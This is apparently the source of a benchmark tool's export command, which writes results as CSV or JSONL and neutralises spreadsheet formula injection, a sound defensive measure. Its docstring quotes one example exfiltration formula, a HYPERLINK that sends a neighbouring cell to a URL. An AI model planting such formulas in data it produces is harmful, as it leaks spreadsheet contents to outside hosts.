"""``medbench-local export``: per-item or aggregated results as CSV or JSONL, for analysis elsewhere.

Why CSV cells are neutralised: a cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return)
is executed as a formula when the file is opened in a spreadsheet, and model outputs are text we do not
control (``=HYPERLINK("http://...?"&A1)`` would send a neighbouring cell away). Following OWASP's advice such
cells get a leading single quote, which spreadsheets show as text. JSONL stays verbatim (it is for programs).
"""

from __future__ import annotations

import csv
import json
import sys
from pathlib import Path
from typing import IO, Any

import click

from ..analysis.pairing import pairing_columns
from ..fileio import atomic_open, check_output_target, database_files
from ..store.database import reading
from ..store.queries import INPUT_COLUMNS, evaluation_keys, item_rows, summarize_evaluation
from ..tasks.base import OUTCOMES
from .common import db_option

# What a spreadsheet reads as the start of a formula (OWASP "CSV injection"), plus their full-width forms,
# which some spreadsheet locales normalise to the ASCII ones.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralise_cell(value: Any) -> Any:
    """A CSV cell that no spreadsheet will execute: text starting like a formula gets a leading ``'``.
    Numbers stay numbers (a negative score is data, not a formula)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _aggregate_rows(db_path: Path) -> list[dict[str, Any]]:
    with reading(db_path) as db:
        rows = []
        pairing = pairing_columns(db)  # the same pairing rule as compare: data, pair, counterpart, status
        for key in evaluation_keys(db):
            s = summarize_evaluation(db, key)
            rows.append({"model_id": s.model_id, "model_sha256": s.model_sha256, "task": s.task,
                         "evaluation": s.key, "n": s.n, **{f"metric_{k}": v for k, v in s.metrics.items()},
                         **{f"n_{k}": s.outcomes.get(k, 0) for k in OUTCOMES}, **pairing.get(key, {})})
        return rows


def _item_rows(db_path: Path, omit_inputs: bool) -> list[dict[str, Any]]:
    with reading(db_path) as db:  # stored JSON is parsed inside, where damage is diagnosed as one line
        rows = item_rows(db)
        for row in rows:
            row["metrics"] = json.loads(row["metrics"] or "{}")
            if omit_inputs:
                for column in INPUT_COLUMNS:
                    row.pop(column, None)
    return rows


def _write(rows: list[dict[str, Any]], fmt: str, handle: IO[str]) -> None:
    if fmt == "jsonl":
        for row in rows:
            handle.write(json.dumps(row, ensure_ascii=False, sort_keys=True) + "\n")
        return
    columns: list[str] = []
    for row in rows:
        columns += [c for c in row if c not in columns]
    writer = csv.DictWriter(handle, fieldnames=columns)
    writer.writeheader()
    for row in rows:
        writer.writerow({k: neutralise_cell(json.dumps(v) if isinstance(v, dict) else v) for k, v in row.items()})


@click.command("export")
@db_option
@click.option("--format", "fmt", type=click.Choice(["csv", "jsonl"]), default="csv", show_default=True)
@click.option("--aggregate", is_flag=True, help="One row per evaluation (n, metrics, outcome counts, data name "
                                                "and SHA-256, and how compare pairs it: pair, paired_with, "
                                                "pairing) instead of one row per item.")
@click.option("--omit-inputs", is_flag=True, help="Leave the rendered prompts (which contain the case text) out.")
@click.option("-o", "--output", "out_path", type=click.Path(dir_okay=False, path_type=Path),
              help="Write to this file instead of standard output: created owner-only (0600) and replaced "
                   "atomically; the results database, a symbolic link or a missing folder is refused.")
def export_command(db_path: Path, fmt: str, aggregate: bool, omit_inputs: bool, out_path: Path | None) -> None:
    """Export results per item (default) or aggregated, as CSV or JSONL.

    CSV cells that a spreadsheet would execute as a formula (starting with =, +, -, @, tab or carriage
    return) are prefixed with a single quote; JSONL is written verbatim.

    \b
    Examples:
      medbench-local export --db results.db -o items.csv
      medbench-local export --db results.db --format jsonl --omit-inputs -o outputs.jsonl
      medbench-local export --db results.db --aggregate
    """
    if out_path is not None:  # refuse a bad target before reading anything
        check_output_target(out_path, protect=database_files(db_path))
    rows = _aggregate_rows(db_path) if aggregate else _item_rows(db_path, omit_inputs)
    if out_path is None:
        _write(rows, fmt, sys.stdout)
        return
    with atomic_open(out_path, "w", protect=database_files(db_path)) as handle:
        _write(rows, fmt, handle)
    click.echo(f"wrote {len(rows)} rows to {out_path}", err=True)
